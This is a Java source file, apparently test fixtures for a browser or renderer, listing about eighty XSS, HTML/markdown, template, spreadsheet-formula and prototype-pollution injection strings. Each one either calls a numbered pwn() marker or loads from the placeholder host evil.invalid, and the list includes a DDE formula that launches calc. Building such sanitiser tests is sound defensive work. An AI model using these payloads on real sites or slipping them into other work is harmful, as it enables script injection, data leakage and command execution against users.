package org.gangmu.browser;

import java.util.List;
import java.util.stream.IntStream;

/** Texts that try to run as a script, to load from elsewhere, or to break out of where they stand. Each that runs tells its number. */
final class Payloads {

    /** {@code @} stands for the call by which a text that runs gives itself away; {@code evil.invalid} is a host that is nobody's. */
    private static final List<String> TEXTS = List.of(
            "<script>@</script>",
            "\"><script>@</script>",
            "'><script>@</script>",
            "</script><script>@</script>",
            "</title><script>@</script>",
            "</style><script>@</script>",
            "</textarea><script>@</script>",
            "--><script>@</script>",
            "]]><script>@</script>",
            "<!--<script>@//-->",
            "<![CDATA[<script>@</script>]]>",
            "<?xml version=\"1.0\"?><script>@</script>",
            "<img src=x onerror=@>",
            "\"><img src=x onerror=@>",
            "'><img src=x onerror='@'>",
            "<IMG SRC=\"x\" ONERROR=\"@\">",
            "<img srcset=\"http://evil.invalid/a 1x\">",
            "<svg onload=@>",
            "<svg/onload=@>",
            "<svg><script>@</script></svg>",
            "<svg><animate onbegin=@ attributeName=x dur=1s>",
            "<math><mtext></mtext><script>@</script></math>",
            "<body onload=@>",
            "<iframe src=\"javascript:parent.@\"></iframe>",
            "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
            "<object data=\"javascript:@\"></object>",
            "<embed src=\"data:text/html,<script>parent.@</script>\">",
            "<a href=\"javascript:@\">点</a>",
            "[点](javascript:@)",
            "[点](JaVaScRiPt:@)",
            "[点](java&#x09;script:@)",
            "<javascript:@>",
            "![图](x\" onerror=\"@)",
            "[点](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKDEpPC9zY3JpcHQ+)",
            "[点](<x\" onmouseover=\"@>)",
            "javascript:@",
            "javascript&colon;@",
            "data:text/html,<script>@</script>",
            "<style>@import 'http://evil.invalid/x.css';</style>",
            "<style>*{background:url(http://evil.invalid/a)}body{display:none}</style>",
            "<link rel=stylesheet href=http://evil.invalid/x.css>",
            "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">",
            "<base href=\"http://evil.invalid/\">",
            "<form action=\"javascript:@\"><button autofocus onfocus=@>",
            "<input autofocus onfocus=@>",
            "<details open ontoggle=@>",
            "<video src=x onerror=@></video>",
            "<audio src=x onerror=@></audio>",
            "<marquee onstart=@>",
            "\" onmouseover=\"@\" x=\"",
            "' onfocus='@' autofocus x='",
            "` onerror=@ `",
            "{{ @ }}",
            "{% set x = @ %}{{ x }}",
            "{{ \"\".getClass().forName(\"java.lang.Runtime\") }}",
            "{# 注 #}{% include \"frame\" %}",
            "${@}#{@}",
            "&#x3c;script&#x3e;@&#x3c;/script&#x3e;",
            "&lt;script&gt;@&lt;/script&gt;",
            "%3Cscript%3E@%3C/script%3E",
            "\\u003cscript\\u003e@\\u003c/script\\u003e",
            "\\\");@;//",
            "\"+@+\"",
            "');@;//",
            "\"};@;//",
            "甲\u2028@\u2029乙",
            "\u202e<script>@</script>\u202c",
            "甲\u2066乙\u2069丙\u200f丁",
            "=HYPERLINK(\"http://evil.invalid\",\"点\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd",
            "-1+cmd",
            "@SUM(1)",
            "__proto__",
            "constructor",
            "</p></article></main></body></html>",
            "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
            "<template><script>@</script></template>",
            "<plaintext>",
            "<xmp><script>@</script></xmp>",
            "<scr<script>ipt>@</scr</script>ipt>",
            "＜script＞@＜/script＞",
            "<a href=\"x\" ping=\"http://evil.invalid/\">点</a>");

    private Payloads() {}

    /** Gives all texts, each with its own call. */
    static List<String> all() {
        return IntStream.range(0, TEXTS.size())
                .mapToObj(i -> TEXTS.get(i).matches("@SUM.*|.*@import.*")
                        ? TEXTS.get(i)
                        : TEXTS.get(i).replace("@", "pwn(" + i + ")"))
                .toList();
    }
}
